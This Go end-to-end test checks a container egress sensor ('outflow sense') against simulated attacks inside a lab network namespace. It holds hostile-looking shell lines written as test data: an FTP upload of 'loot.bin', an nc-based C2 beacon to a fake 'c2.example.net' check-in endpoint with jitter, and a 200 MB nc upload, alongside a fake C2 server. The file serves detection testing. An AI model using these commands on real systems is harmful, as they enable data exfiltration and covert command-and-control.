//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"debug/elf"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// The sensor end-to-end test of the container issue: a real Docker engine,
// containers doing an FTP upload, an HTTP beacon (bridged and host-network),
// a 200 MB upload and benign requests, watched by `outflow sense`. Servers
// run in a network namespace the test creates, reached through the host's
// routing; it stands for the outside world. Run with `make e2e`.

const e2eServerEnv = "OUTFLOW_E2E_SERVER"

// e2eSkip skips, or fails when OUTFLOW_E2E_REQUIRE=1 (CI must not skip).
func e2eSkip(t *testing.T, format string, args ...any) {
	t.Helper()
	if os.Getenv("OUTFLOW_E2E_REQUIRE") == "1" {
		t.Fatalf("end-to-end test cannot run: "+format, args...)
	}
	t.Skipf(format, args...)
}

func e2eRun(t *testing.T, name string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	out, err := exec.CommandContext(ctx, name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

// TestE2EHelperServer is not a test: the e2e test runs the test binary as
// the lab's servers inside the lab namespace. HTTP on :8080 answers after
// 150 ms, as a long-polling C2 server would; :9000 swallows uploads.
func TestE2EHelperServer(t *testing.T) {
	addr := os.Getenv(e2eServerEnv)
	if addr == "" {
		t.Skip("helper process only")
	}
	serve := func(port string, handle func(net.Conn)) {
		ln, err := net.Listen("tcp", net.JoinHostPort(addr, port))
		if err != nil {
			fmt.Println("listen:", err)
			os.Exit(1)
		}
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				go handle(c)
			}
		}()
	}
	serve("8080", func(c net.Conn) {
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		r := bufio.NewReader(c)
		for { // read the request head
			line, err := r.ReadString('\n')
			if err != nil || line == "\r\n" || line == "\n" {
				break
			}
		}
		time.Sleep(150 * time.Millisecond)
		body := `{"sleep":2,"tasks":[]}`
		fmt.Fprintf(c, "HTTP/1.0 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	})
	serve("9000", func(c net.Conn) {
		defer c.Close()
		io.Copy(io.Discard, c)
	})
	fmt.Println("serving")
	time.Sleep(10 * time.Minute) // killed by the test
}

type e2eLab struct {
	ns            string
	hostIf, nsIf  string
	hostIP, srvIP netip.Addr
}

// newE2ELab makes a namespace joined to the host by a veth, with routes so
// that Docker's bridge network reaches it through the host.
func newE2ELab(t *testing.T) *e2eLab {
	t.Helper()
	id := os.Getpid() % 10000
	l := &e2eLab{
		ns:     fmt.Sprintf("of-e2e-%d", id),
		hostIf: fmt.Sprintf("ofe2e%dh", id),
		nsIf:   fmt.Sprintf("ofe2e%dn", id),
		hostIP: netip.MustParseAddr("10.234.0.1"),
		srvIP:  netip.MustParseAddr("10.234.0.2"),
	}
	removeE2ELeftovers()
	t.Cleanup(func() {
		exec.Command("ip", "netns", "pids", l.ns).Run()
		if out, _ := exec.Command("ip", "netns", "pids", l.ns).Output(); len(out) > 0 {
			for _, pid := range strings.Fields(string(out)) {
				exec.Command("kill", "-9", pid).Run()
			}
		}
		exec.Command("ip", "link", "del", l.hostIf).Run()
		exec.Command("ip", "netns", "del", l.ns).Run()
	})
	e2eRun(t, "ip", "netns", "add", l.ns)
	e2eRun(t, "ip", "link", "add", l.hostIf, "type", "veth", "peer", "name", l.nsIf)
	e2eRun(t, "ip", "link", "set", l.nsIf, "netns", l.ns)
	e2eRun(t, "ip", "addr", "add", l.hostIP.String()+"/24", "dev", l.hostIf)
	e2eRun(t, "ip", "link", "set", l.hostIf, "up")
	e2eRun(t, "ip", "-n", l.ns, "addr", "add", l.srvIP.String()+"/24", "dev", l.nsIf)
	e2eRun(t, "ip", "-n", l.ns, "link", "set", l.nsIf, "up")
	e2eRun(t, "ip", "-n", l.ns, "link", "set", "lo", "up")
	// Replies to containers go back through the host.
	e2eRun(t, "ip", "-n", l.ns, "route", "add", "default", "via", l.hostIP.String())
	os.WriteFile("/proc/sys/net/ipv4/ip_forward", []byte("1"), 0o644)
	return l
}

// removeE2ELeftovers clears what a crashed earlier run left behind (a
// runtime crash skips t.Cleanup): its namespaces, their processes, links
// and containers.
func removeE2ELeftovers() {
	out, _ := exec.Command("ip", "netns", "list").Output()
	for _, line := range strings.Split(string(out), "\n") {
		f := strings.Fields(line)
		if len(f) == 0 || !strings.HasPrefix(f[0], "of-e2e-") {
			continue
		}
		pids, _ := exec.Command("ip", "netns", "pids", f[0]).Output()
		for _, pid := range strings.Fields(string(pids)) {
			exec.Command("kill", "-9", pid).Run()
		}
		exec.Command("ip", "netns", "del", f[0]).Run()
		exec.Command("ip", "link", "del", "ofe2e"+strings.TrimPrefix(f[0], "of-e2e-")+"h").Run()
	}
	names, _ := exec.Command("docker", "ps", "-a", "--format", "{{.Names}}").Output()
	for _, n := range strings.Fields(string(names)) {
		if strings.HasPrefix(n, "of-e2e-") {
			exec.Command("docker", "rm", "-f", n).Run()
		}
	}
}

// start runs a command in the lab namespace until the test ends.
func (l *e2eLab) start(t *testing.T, env []string, name string, args ...string) {
	t.Helper()
	cmd := exec.Command("ip", append([]string{"netns", "exec", l.ns, name}, args...)...)
	cmd.Env = append(os.Environ(), env...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
		if t.Failed() {
			t.Logf("%s output:\n%s", name, out.String())
		}
	})
}

// waitTCP waits until addr accepts connections (bounded).
func waitTCP(t *testing.T, addr string) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		if c, err := net.DialTimeout("tcp", addr, 200*time.Millisecond); err == nil {
			c.Close()
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("%s never accepted connections", addr)
}

// busyboxImage imports a one-binary image from Debian's busybox-static:
// no registry is reachable.
func busyboxImage(t *testing.T) string {
	t.Helper()
	f, err := elf.Open("/bin/busybox")
	if err != nil {
		e2eSkip(t, "busybox-static is not installed: %v", err)
	}
	interp := f.Section(".interp")
	f.Close()
	if interp != nil {
		e2eSkip(t, "/bin/busybox is dynamically linked; install busybox-static")
	}
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "bin"), 0o755)
	os.MkdirAll(filepath.Join(root, "tmp"), 0o1777)
	data, err := os.ReadFile("/bin/busybox")
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(root, "bin", "busybox"), data, 0o755)
	for _, a := range []string{"sh", "sleep", "nc", "dd", "ftpput", "printf", "cat", "seq"} {
		os.Symlink("busybox", filepath.Join(root, "bin", a))
	}
	tag := fmt.Sprintf("outflow-e2e-busybox:%d", os.Getpid())
	tar := exec.Command("tar", "-C", root, "-c", ".")
	imp := exec.Command("docker", "import", "-", tag)
	pipe, _ := tar.StdoutPipe()
	imp.Stdin = pipe
	if err := tar.Start(); err != nil {
		t.Fatal(err)
	}
	if out, err := imp.CombinedOutput(); err != nil {
		t.Fatalf("docker import: %v\n%s", err, out)
	}
	tar.Wait()
	t.Cleanup(func() { exec.Command("docker", "rmi", "-f", tag).Run() })
	return tag
}

type e2eContainer struct {
	role, name, id, ip string
	host               bool
}

func TestE2EDocker(t *testing.T) {
	if os.Getenv("OUTFLOW_E2E") == "" {
		t.Skip("the Docker end-to-end test runs with `make e2e` (OUTFLOW_E2E=1)")
	}
	if os.Geteuid() != 0 {
		e2eSkip(t, "needs root")
	}
	for _, tool := range []string{"docker", "ip", "vsftpd", "tar"} {
		if _, err := exec.LookPath(tool); err != nil {
			e2eSkip(t, "%s is not installed", tool)
		}
	}
	if err := exec.Command("docker", "info").Run(); err != nil {
		e2eSkip(t, "no Docker engine answers (start dockerd --iptables=false --storage-driver=vfs): %v", err)
	}
	ftpUser, err := user.Lookup("ftp")
	if err != nil {
		e2eSkip(t, "vsftpd's ftp user is missing: %v", err)
	}
	image := busyboxImage(t)
	lab := newE2ELab(t)
	dir := t.TempDir()

	// Servers in the lab namespace: vsftpd, and the test's HTTP and sink.
	root := filepath.Join(dir, "root")
	for _, d := range []string{"root", "root/pub", "root/upload", "empty"} {
		os.MkdirAll(filepath.Join(dir, d), 0o755)
	}
	var uid, gid int
	fmt.Sscan(ftpUser.Uid, &uid)
	fmt.Sscan(ftpUser.Gid, &gid)
	os.Chown(filepath.Join(root, "upload"), uid, gid)
	conf := filepath.Join(dir, "vsftpd.conf")
	os.WriteFile(conf, []byte(vsftpdConf(false, lab.srvIP, 21, root, filepath.Join(dir, "empty"), dir, "")), 0o600)
	lab.start(t, nil, "vsftpd", conf)
	exe, _ := os.Executable()
	lab.start(t, []string{e2eServerEnv + "=" + lab.srvIP.String(), "GORACE=atexit_sleep_ms=0"}, exe, "-test.run=^TestE2EHelperServer$")
	for _, port := range []string{"21", "8080", "9000"} {
		waitTCP(t, net.JoinHostPort(lab.srvIP.String(), port))
	}

	// The sensor. The lab's subnet stands for the outside world, so the
	// internal networks are the Docker bridge's and loopback only.
	cfg := filepath.Join(dir, "outflow.yaml")
	os.WriteFile(cfg, []byte("internal_networks: [172.16.0.0/12, 127.0.0.0/8, fe80::/10]\n"), 0o644)
	outPath := filepath.Join(dir, "records.ndjson")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cpu0, wall0 := cpuTime(), time.Now()
	var stderr syncBuffer
	sensorDone := make(chan error, 1)
	go func() {
		sensorDone <- runSense(ctx, []string{"--flows", "-o", outPath, "--config", cfg, "--host-ifaces", lab.hostIf,
			"--ring-blocks", "64", "--log-level", "debug"}, io.Discard, &stderr)
	}()
	deadline := time.Now().Add(30 * time.Second)
	for !strings.Contains(stderr.String(), "sensor running") {
		if time.Now().After(deadline) {
			t.Fatalf("sensor did not start:\n%s", stderr.String())
		}
		select {
		case err := <-sensorDone:
			t.Fatalf("sensor exited: %v\n%s", err, stderr.String())
		case <-time.After(100 * time.Millisecond):
		}
	}

	srv := lab.srvIP.String()
	beacon := fmt.Sprintf(`i=0; while [ $i -lt 25 ]; do printf 'POST /api/checkin HTTP/1.0\r\nHost: c2.example.net\r\nContent-Length: 2\r\n\r\n{}' | nc -w 3 %s 8080 >/dev/null; s=$((14 + RANDOM %% 13)); sleep $((s/10)).$((s%%10)); i=$((i+1)); done`, srv)
	specs := []struct {
		role string
		host bool
		cmd  string
	}{
		{"ftp", false, fmt.Sprintf("sleep 2; dd if=/dev/urandom of=/tmp/loot.bin bs=1024 count=300 2>/dev/null; ftpput -u anonymous -p x %s upload/loot.bin /tmp/loot.bin", srv)},
		{"beacon", false, beacon},
		{"hostbeacon", true, beacon},
		{"upload", false, fmt.Sprintf("sleep 4; dd if=/dev/zero bs=1048576 count=200 2>/dev/null | nc -w 3 %s 9000", srv)},
		{"benign", false, fmt.Sprintf(`for s in 3 11 1 7; do printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 3 %s 8080 >/dev/null; sleep $s; done`, srv)},
	}
	var ctrs []*e2eContainer
	for _, sp := range specs {
		name := fmt.Sprintf("of-e2e-%s-%d", sp.role, os.Getpid())
		args := []string{"run", "-d", "--name", name}
		if sp.host {
			args = append(args, "--network=host")
		}
		args = append(args, image, "sh", "-c", sp.cmd)
		id := e2eRun(t, "docker", args...)
		t.Cleanup(func() { exec.Command("docker", "rm", "-f", name).Run() })
		ip := e2eRun(t, "docker", "inspect", "-f", "{{.NetworkSettings.IPAddress}}", name)
		ctrs = append(ctrs, &e2eContainer{role: sp.role, name: name, id: id, ip: ip, host: sp.host})
	}
	waitCtx, waitCancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer waitCancel()
	for _, c := range ctrs {
		out, err := exec.CommandContext(waitCtx, "docker", "wait", c.name).CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "0" {
			logs, _ := exec.Command("docker", "logs", c.name).CombinedOutput()
			t.Errorf("container %s: exit %s (%v)\n%s", c.role, out, err, logs)
		}
	}
	time.Sleep(3 * time.Second) // the last flows end
	cancel()
	select {
	case err := <-sensorDone:
		if err != nil {
			t.Fatalf("sensor: %v\n%s", err, stderr.String())
		}
	case <-time.After(30 * time.Second):
		t.Fatalf("sensor did not stop on cancel:\n%s", stderr.String())
	}

	cpu, wall := cpuTime()-cpu0, time.Since(wall0)
	t.Logf("sensor CPU while the e2e traffic ran: %v over %v = %.1f%% of one core (the test process is otherwise idle; servers and containers are other processes)",
		cpu.Round(time.Millisecond), wall.Round(time.Millisecond), 100*cpu.Seconds()/wall.Seconds())
	data, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	var flowsOut, alerts []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("bad record %q: %v", line, err)
		}
		if str(m, "event.kind") == "alert" {
			alerts = append(alerts, m)
		} else {
			flowsOut = append(flowsOut, m)
		}
	}
	byRole := map[string]*e2eContainer{}
	byIP := map[string]*e2eContainer{}
	for _, c := range ctrs {
		byRole[c.role] = c
		if c.ip != "" {
			byIP[c.ip] = c
		}
	}

	// Attribution: every flow to the lab server belongs to the container
	// that made it; the host-network container's flows (host address) to
	// it, not to the host.
	var total, right int
	for _, f := range flowsOut {
		if str(f, "destination.ip") != srv {
			continue
		}
		total++
		want := byIP[str(f, "source.ip")]
		if str(f, "source.ip") == lab.hostIP.String() {
			want = byRole["hostbeacon"]
		}
		if want != nil && str(f, "container.id") == want.id && str(f, "container.name") == want.name {
			right++
		} else {
			t.Errorf("flow %s:%v -> %s:%v attributed to %q (%q)", str(f, "source.ip"), field(f, "source.port"), srv, field(f, "destination.port"), str(f, "container.name"), str(f, "container.id"))
		}
	}
	t.Logf("attribution: %d of %d flows to the lab server carry the right container", right, total)
	if total < 20 {
		t.Errorf("only %d flows to the lab server recorded", total)
	}

	// Alerts name the right container.
	type want struct{ role, rule string }
	for _, w := range []want{{"ftp", "file-transfer"}, {"beacon", "beacon"}, {"hostbeacon", "beacon"}, {"upload", "egress-volume"}} {
		c := byRole[w.role]
		found := false
		for _, a := range alerts {
			if str(a, "rule.name") == w.rule && str(a, "container.id") == c.id && str(a, "container.name") == c.name {
				found = true
			}
		}
		if !found {
			t.Errorf("no %s alert for the %s container", w.rule, w.role)
		}
	}
	var worst time.Duration
	for _, a := range alerts {
		ts, err1 := time.Parse(time.RFC3339Nano, str(a, "@timestamp"))
		created, err2 := time.Parse(time.RFC3339Nano, str(a, "event.created"))
		if err1 != nil || err2 != nil {
			t.Errorf("alert times: %v %v", err1, err2)
		}
		lat := created.Sub(ts)
		worst = max(worst, lat)
		if lat > time.Second {
			t.Errorf("alert %s written %v after its evidence (want < 1 s)", str(a, "rule.name"), lat)
		}
		t.Logf("alert %s after %v: %s (container %s, mode %s)", str(a, "rule.name"), lat.Round(time.Millisecond), str(a, "message"), str(a, "container.name"), str(a, "outflow.container.network_mode"))
		if str(a, "container.id") == byRole["benign"].id {
			t.Errorf("the benign container raised %s: %s", str(a, "rule.name"), str(a, "message"))
		}
	}
	t.Logf("worst alert latency: %v", worst.Round(time.Millisecond))
	summary := stderr.String()
	if i := strings.LastIndex(summary, "sensor stopped"); i >= 0 {
		t.Logf("sensor summary: %s", strings.TrimSpace(summary[i:]))
	}
	if !strings.Contains(summary, "kernel_drops=0") {
		t.Errorf("kernel drops during the test: %s", summary[max(0, len(summary)-600):])
	}
}

// cpuTime is the user+system CPU this process has used.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// rssKiB is this process's resident set.
func rssKiB() int64 {
	data, _ := os.ReadFile("/proc/self/status")
	for _, line := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(line, "VmRSS:") {
			var n int64
			fmt.Sscan(strings.TrimSpace(strings.TrimSuffix(strings.TrimPrefix(line, "VmRSS:"), "kB")), &n)
			return n
		}
	}
	return 0
}

// TestE2EIdleContainers measures the sensor watching 50 idle containers:
// CPU and memory (a figure the container issue asks for).
func TestE2EIdleContainers(t *testing.T) {
	if os.Getenv("OUTFLOW_E2E") == "" {
		t.Skip("runs with `make e2e` (OUTFLOW_E2E=1)")
	}
	if os.Geteuid() != 0 || exec.Command("docker", "info").Run() != nil {
		e2eSkip(t, "needs root and a Docker engine")
	}
	removeE2ELeftovers()
	image := busyboxImage(t)
	const n = 50
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("of-e2e-idle%d-%d", i, os.Getpid())
		e2eRun(t, "docker", "run", "-d", "--name", name, image, "sleep", "600")
		t.Cleanup(func() { exec.Command("docker", "rm", "-f", name).Run() })
	}
	rss0 := rssKiB()
	ctx, cancel := context.WithCancel(context.Background())
	var stderr syncBuffer
	done := make(chan error, 1)
	go func() { done <- runSense(ctx, []string{"-o", os.DevNull, "--log-level", "info"}, io.Discard, &stderr) }()
	deadline := time.Now().Add(60 * time.Second)
	for strings.Count(stderr.String(), "msg=capturing") < n {
		if time.Now().After(deadline) {
			cancel()
			t.Fatalf("sensor did not open %d sources:\n%s", n, stderr.String())
		}
		time.Sleep(200 * time.Millisecond)
	}
	cpu0, wall0 := cpuTime(), time.Now()
	time.Sleep(20 * time.Second)
	cpu, wall := cpuTime()-cpu0, time.Since(wall0)
	rss := rssKiB()
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	t.Logf("sensor with %d idle containers: %.2f%% of one core over %v; process RSS %d MiB (%d MiB before the sensor started)",
		n, 100*cpu.Seconds()/wall.Seconds(), wall.Round(time.Second), rss>>10, rss0>>10)
	if cpu.Seconds()/wall.Seconds() > 0.25 {
		t.Errorf("idle sensor uses %.1f%% of a core", 100*cpu.Seconds()/wall.Seconds())
	}
}

// syncBuffer is a bytes.Buffer safe for the sensor's logger and the test.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
